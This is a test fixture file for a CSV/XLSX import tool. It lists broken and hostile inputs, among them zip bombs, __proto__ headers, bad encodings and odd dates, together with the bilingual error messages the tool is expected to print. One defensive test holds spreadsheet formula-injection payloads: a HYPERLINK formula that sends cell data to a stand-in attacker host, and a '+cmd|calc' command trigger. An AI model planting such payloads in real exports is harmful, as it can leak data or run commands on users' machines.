/**
 * The corpus of broken exports. Each case names its input (a small file under files/, or one generated at
 * test time when it is large or binary), the exit code perf must end with, and the message it must print
 * in English and in Chinese — on stderr when perf refuses the file, in the report's problem list when it
 * reads what it can and reports the rest.
 */
import { chmodSync, existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import iconv from 'iconv-lite';
import { expect } from 'vitest';
import { dealsCsv, emptyFormattedRows, encryptedXlsx, sheetRows, xlsx } from './make.js';

export const FILES = join(import.meta.dirname, 'files');

// eslint-disable-next-line @typescript-eslint/no-explicit-any
export type Json = any;

export interface BadInput {
  /** The wording for the case. */
  what: string;
  /** A file under files/, or a generator writing into `dir` and returning the path to give perf. */
  input: string | ((dir: string) => string);
  /** Extra flags for `perf inspect`. */
  flags?: string[];
  /** A config written next to the input and passed with --config. */
  config?: object;
  code: 0 | 2;
  en: RegExp;
  zh: RegExp;
  /** Checks on `perf inspect --json` when the file is read (exit 0). */
  json?: (j: Json) => void;
  /** Node flags for the child, e.g. a heap cap that proves memory stays bounded. */
  nodeOptions?: string;
  /**
   * With nodeOptions: the same file at a size that needs no cap, read by the Chinese and JSON runs (the
   * English run reads `input` under the cap), so the big file is read once.
   */
  small?: (dir: string) => string;
  /** Why this case cannot run on this machine. */
  skip?: string;
}

const ROOT = process.getuid?.() === 0;
const ROOT_UNREADABLE = '/proc/sys/vm/drop_caches';
const CSV_HEAD = 'Opportunity ID,Owner,Stage,Amount,Close Date\n';
const write = (dir: string, name: string, content: string | Buffer): string => {
  const p = join(dir, name);
  writeFileSync(p, content);
  return p;
};
const codes = (j: Json): string[] => j.problems.map((p: { code: string }) => p.code);
const amounts = (j: Json): unknown[] => j.samples.map((s: { amount?: number }) => s.amount ?? null);

/** Two deals, then `rows` empty rows that carry a style. */
const padded = (dir: string, name: string, rows: number): string =>
  write(dir, name, xlsx(Buffer.concat([Buffer.from(sheetRows([['Opportunity ID', 'Owner', 'Stage', 'Amount', 'Close Date'], ['A1', 'Ann', 'Won', 100, 46027], ['A2', 'Bob', 'Won', 200, 46028]], { 4: 1 })), emptyFormattedRows(4, rows)])));

/** Deterministic noise: the same "garbage" on every run. */
function garbage(n: number, seed = 7): Buffer {
  const b = Buffer.alloc(n);
  let x = seed;
  for (let i = 0; i < n; i++) {
    x = (x * 1103515245 + 12345) >>> 0;
    b[i] = x >>> 24;
  }
  return b;
}

export const CORPUS: Record<string, BadInput> = {
  'empty file': {
    what: 'empty file',
    input: 'empty.csv',
    code: 2,
    en: /empty\.csv: the file is empty \(0 bytes\)\. Export the data again/,
    zh: /empty\.csv：文件是空的（0 字节）。请从 CRM 重新导出数据/,
  },
  'header only': {
    what: 'header only',
    input: 'header-only.csv',
    code: 0,
    en: /header-only\.csv: the file has a header but no data rows/,
    zh: /header-only\.csv：文件只有表头，没有数据行/,
    json: (j) => expect(j).toMatchObject({ kind: 'deals', rowsRead: 0, rowsKept: 0 }),
  },
  'missing required column': {
    what: 'missing required column',
    input: 'missing-column.csv',
    flags: ['--kind', 'deals'],
    code: 2,
    en: /missing-column\.csv: cannot read it as deals: no column for closed_at\.[\s\S]*Headers found \(row 1\): Opportunity ID, Owner, Stage, Amount[\s\S]*"columns": \{"deals": \{"closed_at"/,
    zh: /missing-column\.csv：无法作为商机\/订单读取：缺少 closed_at 列。[\s\S]*找到的表头（第 1 行）/,
  },
  'no recognisable header': {
    what: 'missing required column (kind not given)',
    input: 'no-header.csv',
    code: 2,
    en: /no-header\.csv: no header row found in the first 30 rows[\s\S]*First row: Foo, Bar, Baz[\s\S]*--kind deals/,
    zh: /no-header\.csv：前 30 行中找不到可识别的表头[\s\S]*第一行：Foo，Bar，Baz/,
  },
  'duplicated headers': {
    what: 'duplicated headers: the first column wins, the other is named',
    input: 'duplicate-headers.csv',
    code: 0,
    en: /Also matched \(ignored, first column wins\): Amount → amount/,
    zh: /重复匹配（已忽略，以第一列为准）：Amount → amount/,
    json: (j) => {
      expect(j.shadowed).toEqual([{ header: 'Amount', field: 'amount' }]);
      expect(amounts(j)).toEqual([100]);
    },
  },
  'headers named __proto__, constructor, toString': {
    what: 'headers named __proto__, constructor, toString',
    input: 'proto-headers.csv',
    code: 0,
    en: /Not used: __proto__, constructor, toString, hasOwnProperty, valueOf, prototype/,
    zh: /未使用的列：__proto__、constructor、toString、hasOwnProperty、valueOf、prototype/,
    json: (j) => {
      expect(j.rowsKept).toBe(1);
      expect(j.samples[0]).toEqual({ row: 2, id: '#2', rep: 'Ann', stage: 'won', stage_label: 'Won', closed_at: '2026-01-05' });
    },
  },
  'headers named __proto__, constructor, toString mapped by the config': {
    what: 'headers named __proto__, constructor, toString (mapped in the config)',
    input: 'proto-mapped.csv',
    config: { columns: { deals: { rep: '__proto__', stage: 'constructor', closed_at: 'toString' } } },
    code: 0,
    en: /Rows: 2 read, 2 kept/,
    zh: /行数：读取 2，有效 2/,
    json: (j) => {
      expect(j.mapping).toEqual({ rep: '__proto__', stage: 'constructor', closed_at: 'toString' });
      expect(j.samples).toEqual([
        { row: 2, id: '#2', rep: 'Ann', stage: 'won', stage_label: 'Won', closed_at: '2026-01-05' },
        { row: 3, id: '#3', rep: 'Bob', stage: 'lost', stage_label: 'Lost', closed_at: '2026-01-06' },
      ]);
    },
  },
  'a config whose top level has a __proto__ key': {
    what: 'headers named __proto__ (in the config file)',
    input: 'proto-mapped.csv',
    config: JSON.parse('{"__proto__": {"timezone": "Mars/Olympus"}, "columns": {"__proto__": {"rep": "x"}}}'),
    code: 2,
    en: /config .*perf\.config\.json has invalid settings:\n {2}columns: Unrecognized key: "__proto__"\n {2}\(root\): Unrecognized key: "__proto__"/,
    zh: /配置文件 .*perf\.config\.json 中有无效设置：\n {2}columns：出现未知的键\(key\): "__proto__"\n {2}\(root\)：出现未知的键\(key\): "__proto__"/,
  },
  'unterminated quoted field': {
    what: 'an unterminated quoted field',
    input: 'unterminated-quote.csv',
    code: 2,
    en: /unterminated-quote\.csv: a quoted field that starts on row 3 is never closed \(a closing " is missing\)/,
    zh: /unterminated-quote\.csv：第 3 行开始的带引号字段没有结束（缺少右引号 "）/,
  },
  'ragged rows': {
    what: 'ragged rows',
    input: 'ragged.csv',
    code: 0,
    en: /row 3: Row 3 has 4 fields but the table has 5; values may be shifted[\s\S]*row 4: Row 4 has 7 fields but the table has 5/,
    zh: /第 3 行：第 3 行有 4 个字段，而表格有 5 列；数值可能错位[\s\S]*第 4 行有 7 个字段，而表格有 5 列/,
    json: (j) => {
      expect(codes(j).sort()).toEqual(['missing_value', 'ragged_row', 'ragged_row']);
      expect(j).toMatchObject({ rowsRead: 4, rowsKept: 3 });
    },
  },
  'binary garbage renamed .csv': {
    what: 'binary garbage renamed .csv',
    input: (dir) => write(dir, 'garbage.csv', Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]), garbage(64 << 10)])),
    code: 2,
    en: /garbage\.csv: this looks like a binary file, not a CSV or XLSX table/,
    zh: /garbage\.csv：这看起来是二进制文件，不是 CSV 或 XLSX 表格/,
  },
  'gzip renamed .csv': {
    what: 'binary garbage renamed .csv (a compressed export)',
    input: (dir) => write(dir, 'deals.csv', Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0]), garbage(512)])),
    code: 2,
    en: /deals\.csv: this is a compressed archive \(gzip\/7z\/rar\), not a table\. Extract it first/,
    zh: /deals\.csv：这是压缩包（gzip\/7z\/rar），不是表格。请先解压/,
  },
  'UTF-16 without BOM': {
    what: 'UTF-16 without BOM',
    input: (dir) => write(dir, 'utf16.csv', Buffer.from(`${CSV_HEAD}A1,张伟,Won,100,2026-01-05\nA2,李娜,Won,200,2026-01-06\n`, 'utf16le')),
    code: 0,
    en: /Format: csv, utf-16le, delimiter ","[\s\S]*Rows: 2 read, 2 kept/,
    zh: /格式：csv，utf-16le，分隔符 ","[\s\S]*行数：读取 2，有效 2/,
    json: (j) => expect(j.samples.map((s: { rep: string }) => s.rep)).toEqual(['张伟', '李娜']),
  },
  'UTF-16BE without BOM': {
    what: 'UTF-16 without BOM (big-endian)',
    input: (dir) => write(dir, 'utf16be.csv', iconv.encode(`${CSV_HEAD}A1,张伟,Won,100,2026-01-05\n`, 'utf16be')),
    code: 0,
    en: /Format: csv, utf-16be/,
    zh: /格式：csv，utf-16be/,
    json: (j) => expect(j.samples[0].rep).toBe('张伟'),
  },
  'mixed encodings, a large UTF-8 file with GBK rows at the end': {
    what: 'mixed encodings within a file',
    input: (dir) => {
      const utf8 = CSV_HEAD + Array.from({ length: 40_000 }, (_, i) => `D${i},张伟,Won,100,2026-01-05\n`).join('');
      return write(dir, 'mixed.csv', Buffer.concat([Buffer.from(utf8), iconv.encode('X1,李娜,Won,200,2026-01-06\n', 'gbk')]));
    },
    code: 0,
    en: /row 40002 "[^"]*": Row 40002 contains bytes that are not valid utf-8 \(shown as �\): the file seems to mix encodings/,
    zh: /第 40002 行 "[^"]*"：第 40002 行含有不符合 utf-8 编码的字节（显示为 �）：文件似乎混用了多种编码/,
    json: (j) => expect(j).toMatchObject({ encoding: 'utf-8', rowsKept: 40_001 }),
  },
  'mixed encodings, a small file': {
    what: 'mixed encodings within a file (under 1 MiB)',
    input: (dir) => write(dir, 'mixed-small.csv', Buffer.concat([Buffer.from(`${CSV_HEAD}A1,张伟,Won,100,2026-01-05\n`), iconv.encode('A2,李娜,Won,200,2026-01-06\n', 'gbk')])),
    code: 0,
    en: /mix encodings/,
    zh: /混用了多种编码/,
    json: (j) => expect(j.samples[0].rep).toBe('张伟'),
  },
  'a 20 MB single cell': {
    what: 'a 20 MB single cell',
    input: (dir) => write(dir, 'huge-cell.csv', `${CSV_HEAD}A1,Ann,Won,100,2026-01-05\nA2,"${'x'.repeat(20 << 20)}",Won,200,2026-01-06\nA3,Cy,Won,300,2026-01-07\n`),
    code: 0,
    en: /row 3: Row 3 has a field larger than 10485760 bytes; the row was skipped/,
    zh: /第 3 行：第 3 行有超过 10485760 字节的字段，已跳过该行/,
    json: (j) => expect(j).toMatchObject({ rowsKept: 2, problemCount: 1 }),
    nodeOptions: '--max-old-space-size=400',
  },
  '10,000 columns': {
    what: '10,000 columns',
    input: (dir) => write(dir, 'wide.csv', dealsCsv(50, 9_995)),
    code: 0,
    en: /Rows: 50 read, 50 kept[\s\S]*Not used: Extra 1, Extra 2,/,
    zh: /行数：读取 50，有效 50/,
    json: (j) => expect(j.unmapped).toHaveLength(9_995),
  },
  'date in 1899': {
    what: 'dates in 1899',
    input: 'date-1899.csv',
    code: 0,
    en: /row 2 \[Close Date\] "1899-12-31": 1899-12-31: the year is outside the supported range 1990–2100/,
    zh: /第 2 行 \[Close Date\] "1899-12-31"：1899-12-31：年份超出支持的范围 1990–2100/,
    json: (j) => expect(j).toMatchObject({ rowsKept: 1, problems: [{ row: 2, code: 'bad_date', severity: 'error' }] }),
  },
  'date 1900-02-29 written as text': {
    what: '1900-02-29 (text)',
    input: 'date-1900-02-29.csv',
    code: 0,
    en: /row 2 \[Close Date\] "1900-02-29": 1900-2-29: the year is outside the supported range/,
    zh: /第 2 行 \[Close Date\] "1900-02-29"：1900-2-29：年份超出支持的范围/,
    json: (j) => expect(codes(j)).toEqual(['bad_date']),
  },
  "1900-02-29, Excel's phantom day, as serial 60 in a workbook": {
    what: "1900-02-29 (Excel's phantom day)",
    input: (dir) => write(dir, 'phantom.xlsx', xlsx(sheetRows([['Opportunity ID', 'Owner', 'Stage', 'Amount', 'Close Date'], ['A1', 'Ann', 'Won', 100, 60], ['A2', 'Bob', 'Won', 200, 46027]]))),
    code: 0,
    en: /row 2 \[Close Date\] "60": Excel serial 60 is 1900-02-29, Excel's phantom leap day that never existed/,
    zh: /第 2 行 \[Close Date\] "60"：Excel 序列号 60 对应 1900-02-29，这是 Excel 虚构的闰日/,
    json: (j) => expect(j.samples.map((s: { closed_at: string }) => s.closed_at)).toEqual(['2026-01-05']),
  },
  'date in 9999': {
    what: 'dates in 9999',
    input: 'date-9999.csv',
    code: 0,
    en: /row 2 \[Close Date\] "9999-12-31": 9999-12-31: the year is outside the supported range 1990–2100/,
    zh: /第 2 行 \[Close Date\] "9999-12-31"：9999-12-31：年份超出支持的范围 1990–2100/,
  },
  'date in year 0026 (a typo for 2026)': {
    what: 'a date in year 0026',
    input: 'date-0026.csv',
    code: 0,
    en: /row 2 \[Close Date\] "0026-11-27": 0026-11-27: the year is outside the supported range 1990–2100 \(config dateRange\)/,
    zh: /第 2 行 \[Close Date\] "0026-11-27"：0026-11-27：年份超出支持的范围 1990–2100（配置项 dateRange）/,
    json: (j) => expect(j).toMatchObject({ rowsKept: 1, problems: [{ row: 2, column: 'Close Date', code: 'bad_date', severity: 'error' }] }),
  },
  'date in 1985, outside the default range': {
    what: 'a date before 1990',
    input: 'date-1985.csv',
    code: 0,
    en: /row 2 \[Close Date\] "1985-06-30": 1985-6-30: the year is outside the supported range 1990–2100/,
    zh: /第 2 行 \[Close Date\] "1985-06-30"：1985-6-30：年份超出支持的范围 1990–2100/,
    json: (j) => expect(codes(j)).toEqual(['bad_date']),
  },
  'date in 1985 with dateRange widened in the config': {
    what: 'a date before 1990, the range widened by config',
    input: 'date-1985.csv',
    config: { dateRange: { minYear: 1980 } },
    code: 0,
    en: /Rows: 2 read, 2 kept/,
    zh: /行数：读取 2，有效 2/,
    json: (j) => expect(j.problems).toEqual([]),
  },
  'amounts adding up to more than 10 trillion': {
    what: 'amounts whose total cannot be kept exact to the cent',
    input: (dir) => write(dir, 'huge-total.csv', `${CSV_HEAD}A1,Ann,Won,"6,000,000,000,000.01",2026-01-05\nA2,Bob,Won,"6,000,000,000,000.02",2026-01-06\n`),
    code: 2,
    en: /huge-total\.csv: the amounts add up to more than 10 trillion by row 3 \[Amount\]; perf keeps totals exact to the cent only below that/,
    zh: /huge-total\.csv：金额合计到第 3 行 \[Amount\] 已超过 10 万亿；perf 只在此范围内保证合计精确到分/,
  },
  'month/day ambiguity across a column': {
    what: 'month/day ambiguity across a column',
    input: 'ambiguous-dates.csv',
    code: 0,
    en: /\[Close Date\]: dates in this column could be day\/month or month\/day, and no value tells which: such dates are not read\. Set "dateFormat"[\s\S]*row 2 \[Close Date\] "03\/04\/2026": 03\/04\/2026 is ambiguous/,
    zh: /\[Close Date\]：此列日期无法判断是"日\/月"还是"月\/日"[\s\S]*"03\/04\/2026"：03\/04\/2026 有歧义/,
    json: (j) => expect(j.dateStyles).toEqual([{ field: 'closed_at', header: 'Close Date', order: 'YMD', ambiguous: true }]),
  },
  'month/day ambiguity resolved by the config': {
    what: 'month/day ambiguity across a column (dateFormat DMY)',
    input: 'ambiguous-dates.csv',
    config: { dateFormat: 'DMY' },
    code: 0,
    en: /Rows: 3 read, 3 kept[\s\S]*Problems: none/,
    zh: /行数：读取 3，有效 3/,
    json: (j) => expect(j.samples.map((s: { closed_at: string }) => s.closed_at)).toEqual(['2026-04-03', '2026-06-05', '2026-12-11']),
  },
  'day-first and month-first dates mixed in a column': {
    what: 'month/day ambiguity across a column (contradictory evidence)',
    input: 'conflicting-date-order.csv',
    code: 0,
    en: /\[Close Date\]: dates in this column could be day\/month or month\/day/,
    zh: /此列日期无法判断是"日\/月"还是"月\/日"/,
    // Each of these dates reads one way only (31 cannot be a month), so each is kept as what it must mean.
    json: (j) => expect(j.samples.map((s: { closed_at: string }) => s.closed_at)).toEqual(['2026-03-31', '2026-03-31', '2026-12-25']),
  },
  'negative amounts': {
    what: 'negative amounts',
    input: 'amounts-negative.csv',
    code: 0,
    en: /Rows: 3 read, 3 kept/,
    zh: /行数：读取 3，有效 3/,
    // A credit note or a reversal is a legitimate negative amount: kept as signed.
    json: (j) => expect(amounts(j)).toEqual([-100, -250.5, 300]),
  },
  'blank amounts': {
    what: 'blank amounts',
    input: 'amounts-blank.csv',
    code: 0,
    en: /Rows: 3 read, 3 kept/,
    zh: /行数：读取 3，有效 3/,
    json: (j) => expect(amounts(j)).toEqual([null, null, 300]),
  },
  'non-numeric amounts': {
    what: 'non-numeric amounts',
    input: 'amounts-not-numeric.csv',
    code: 0,
    en: /row 2 \[Amount\] "abc": expected an amount such as 1,234\.56, ¥1,234 or 12\.5万[\s\S]*row 3 \[Amount\] "12k": expected an amount without abbreviations[\s\S]*row 4 \[Amount\] "15%": expected an amount, not a percentage/,
    zh: /第 2 行 \[Amount\] "abc"：应为金额，例如 1,234\.56、¥1,234 或 12\.5万[\s\S]*"12k"：金额不能使用 k、M 等缩写[\s\S]*"15%"：应为金额，而不是百分比/,
    json: (j) => expect(j).toMatchObject({ rowsKept: 1, problemCount: 3 }),
  },
  'amounts with 万 and ¥ mixed': {
    what: 'amounts with 万 and ¥ mixed',
    input: 'amounts-wan-yuan.csv',
    code: 0,
    en: /Rows: 5 read, 5 kept[\s\S]*Problems: none/,
    zh: /行数：读取 5，有效 5[\s\S]*数据问题：无/,
    json: (j) => expect(amounts(j)).toEqual([12000, 30000, 12000, 12000, 15000]),
  },
  'duplicate deal ids': {
    what: 'duplicate deal ids',
    input: 'duplicate-ids.csv',
    code: 0,
    en: /row 3 \[Opportunity ID\] "A1": duplicate id: already used on row 2; row skipped/,
    zh: /第 3 行 \[Opportunity ID\] "A1"：编号重复：已在第 2 行出现，已跳过该行/,
    json: (j) => expect(j).toMatchObject({ rowsRead: 3, rowsKept: 2 }),
  },
  'truncated XLSX': {
    what: 'a truncated XLSX',
    input: (dir) => {
      const full = xlsx(sheetRows([['Opportunity ID', 'Owner', 'Stage', 'Amount', 'Close Date'], ...Array.from({ length: 3000 }, (_, i) => [`D${i}`, 'Ann', 'Won', i, 46027])]));
      return write(dir, 'truncated.xlsx', full.subarray(0, Math.floor(full.length * 0.6)));
    },
    code: 2,
    en: /truncated\.xlsx: the file is damaged or truncated \(its zip directory cannot be read\)/,
    zh: /truncated\.xlsx：文件已损坏或不完整（无法读取 zip 目录）/,
  },
  'malformed XLSX': {
    what: 'a malformed XLSX (zip magic, then garbage)',
    input: (dir) => write(dir, 'malformed.xlsx', Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), garbage(4096)])),
    code: 2,
    en: /malformed\.xlsx: the file is damaged or truncated/,
    zh: /malformed\.xlsx：文件已损坏或不完整/,
  },
  'XLSX with broken sheet XML': {
    what: 'a malformed XLSX (valid zip, broken sheet XML)',
    input: (dir) => write(dir, 'badxml.xlsx', xlsx(`${sheetRows([['Opportunity ID', 'Owner', 'Stage', 'Close Date'], ['A1', 'Ann', 'Won', 46027]])}<row r="3"><c r="A3" t="inlineStr"><is><t>oops</is></row>`)),
    code: 2,
    en: /badxml\.xlsx: the workbook is damaged or truncated/,
    zh: /badxml\.xlsx：工作簿已损坏或不完整/,
  },
  'XLSX zip bomb': {
    what: 'an XLSX zip bomb, refused past limits.maxUncompressedMB',
    input: (dir) => {
      const row = (r: number) => `<row r="${r}"><c r="A${r}" t="inlineStr"><is><t>${'A'.repeat(1000)}</t></is></c></row>`;
      const rows = Array.from({ length: 3000 }, (_, i) => row(i + 2)).join('');
      return write(dir, 'bomb.xlsx', xlsx(sheetRows([['Opportunity ID', 'Owner', 'Stage', 'Close Date']]) + rows));
    },
    config: { limits: { maxUncompressedMB: 1 } },
    code: 2,
    en: /bomb\.xlsx: the part xl\/worksheets\/sheet1\.xml unpacks to 3\.\d MiB, more than the limit of 1\.0 MiB; perf refuses it to protect memory \(it may be a zip bomb\)[\s\S]*limits\.maxUncompressedMB/,
    zh: /bomb\.xlsx：其中的 xl\/worksheets\/sheet1\.xml 解压后为 3\.\d MiB，超过上限 1\.0 MiB；为保护内存 perf 拒绝读取（可能是 zip 炸弹）/,
  },
  'XLSX zip bomb whose directory lies': {
    what: 'an XLSX zip bomb (directory understates the size)',
    input: (dir) => {
      const rows = Array.from({ length: 3000 }, (_, i) => `<row r="${i + 2}"><c r="A${i + 2}" t="inlineStr"><is><t>${'B'.repeat(1000)}</t></is></c></row>`).join('');
      return write(dir, 'liar.xlsx', xlsx(sheetRows([['Opportunity ID', 'Owner', 'Stage', 'Close Date']]) + rows, { claim: { 'xl/worksheets/sheet1.xml': 1000 } }));
    },
    config: { limits: { maxUncompressedMB: 1 } },
    code: 2,
    en: /liar\.xlsx: the part xl\/worksheets\/sheet1\.xml unpacks to .* MiB, more than the limit of 1\.0 MiB/,
    zh: /liar\.xlsx：其中的 xl\/worksheets\/sheet1\.xml 解压后为 .* MiB，超过上限 1\.0 MiB/,
  },
  'XLSX with a million empty formatted rows': {
    what: 'an XLSX with a million empty formatted rows (fast, bounded memory)',
    input: (dir) => padded(dir, 'padded.xlsx', 1_000_000),
    small: (dir) => padded(dir, 'padded-small.xlsx', 1_000),
    code: 0,
    en: /Rows: 2 read, 2 kept[\s\S]*Problems: none/,
    zh: /行数：读取 2，有效 2/,
    json: (j) => expect(j.samples.map((s: { closed_at: string }) => s.closed_at)).toEqual(['2026-01-05', '2026-01-06']),
    nodeOptions: '--max-old-space-size=200',
  },
  'password-protected XLSX': {
    what: 'a password-protected XLSX',
    input: (dir) => write(dir, 'locked.xlsx', encryptedXlsx()),
    code: 2,
    en: /locked\.xlsx: this workbook is password-protected, so perf cannot read it\. Open it in Excel, remove the password/,
    zh: /locked\.xlsx：此工作簿设置了打开密码，perf 无法读取/,
  },
  'legacy .xls': {
    what: 'an Excel 97-2003 .xls',
    input: (dir) => write(dir, 'old.xls', Buffer.concat([encryptedXlsx().subarray(0, 512), Buffer.from('W\0o\0r\0k\0b\0o\0o\0k\0'), Buffer.alloc(1024)])),
    code: 2,
    en: /old\.xls: this is an old Excel 97-2003 \(\.xls\) file, which perf cannot read/,
    zh: /old\.xls：这是旧版 Excel 97-2003（\.xls）文件，perf 无法读取/,
  },
  'HTML saved as .xls': {
    what: 'HTML saved as .xls',
    input: 'html-saved-as.xls',
    code: 2,
    en: /html-saved-as\.xls: this is a web page \(HTML\) saved with an Excel or CSV extension, not a real spreadsheet/,
    zh: /html-saved-as\.xls：这是一个网页（HTML）文件，只是用了 Excel 或 CSV 的扩展名/,
  },
  'Excel 2003 XML saved as .xls': {
    what: 'HTML saved as .xls (SpreadsheetML 2003)',
    input: 'excel-2003-xml.xls',
    code: 2,
    en: /excel-2003-xml\.xls: this is an Excel 2003 XML spreadsheet, which perf cannot read/,
    zh: /excel-2003-xml\.xls：这是 Excel 2003 XML 表格，perf 无法读取/,
  },
  'a sheet that does not exist': {
    what: 'a missing sheet (--sheet)',
    input: (dir) => write(dir, 'one-sheet.xlsx', xlsx(sheetRows([['Opportunity ID', 'Owner', 'Stage', 'Close Date'], ['A1', 'Ann', 'Won', 46027]]))),
    flags: ['--sheet', 'Leads'],
    code: 2,
    en: /one-sheet\.xlsx: there is no sheet "Leads"\. The sheets are: 1\. Deals/,
    zh: /one-sheet\.xlsx：没有名为 "Leads" 的工作表。现有工作表：1\. Deals/,
  },
  'a file that does not exist': {
    what: 'a file that does not exist',
    input: (dir) => join(dir, 'no-such-export.csv'),
    code: 2,
    en: /no-such-export\.csv: no such file\. Check the path and the file name/,
    zh: /no-such-export\.csv：文件不存在。请检查路径和文件名/,
  },
  'a directory': {
    what: 'a directory',
    input: (dir) => {
      mkdirSync(join(dir, 'exports.csv'));
      return join(dir, 'exports.csv');
    },
    code: 2,
    en: /exports\.csv: this is a directory, not a file/,
    zh: /exports\.csv：这是一个文件夹，不是文件/,
  },
  'no read permission': {
    what: 'no read permission',
    input: (dir) => unreadablePath(dir),
    skip: ROOT && !existsSync(ROOT_UNREADABLE) ? `running as root and ${ROOT_UNREADABLE} does not exist: no file is unreadable to root here` : undefined,
    code: 2,
    en: /: permission denied: perf may not read this file/,
    zh: /：没有读取权限。请检查文件权限/,
  },
  'CRM text that looks like a formula': {
    what: 'CRM text starting with = + - @ (read as text, never evaluated)',
    input: 'formula-text.csv',
    code: 0,
    en: /Rows: 4 read, 4 kept/,
    zh: /行数：读取 4，有效 4/,
    json: (j) => expect(j.samples.map((s: { rep: string }) => s.rep)).toEqual(['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|calc', '@SUM(1+1)', '-2+3']),
  },
};

/**
 * A path perf may not read. Tests run as root in CI, and root ignores file modes; /proc/sys/vm/drop_caches
 * is write-only even for root (procfs checks its mode bits for every user), so root gets EACCES there.
 * Anyone else gets a chmod 000 file.
 */
export function unreadablePath(dir: string): string {
  if (ROOT) return ROOT_UNREADABLE;
  const p = write(dir, 'secret.csv', `${CSV_HEAD}A1,Ann,Won,1,2026-01-05\n`);
  chmodSync(p, 0o000);
  return p;
}
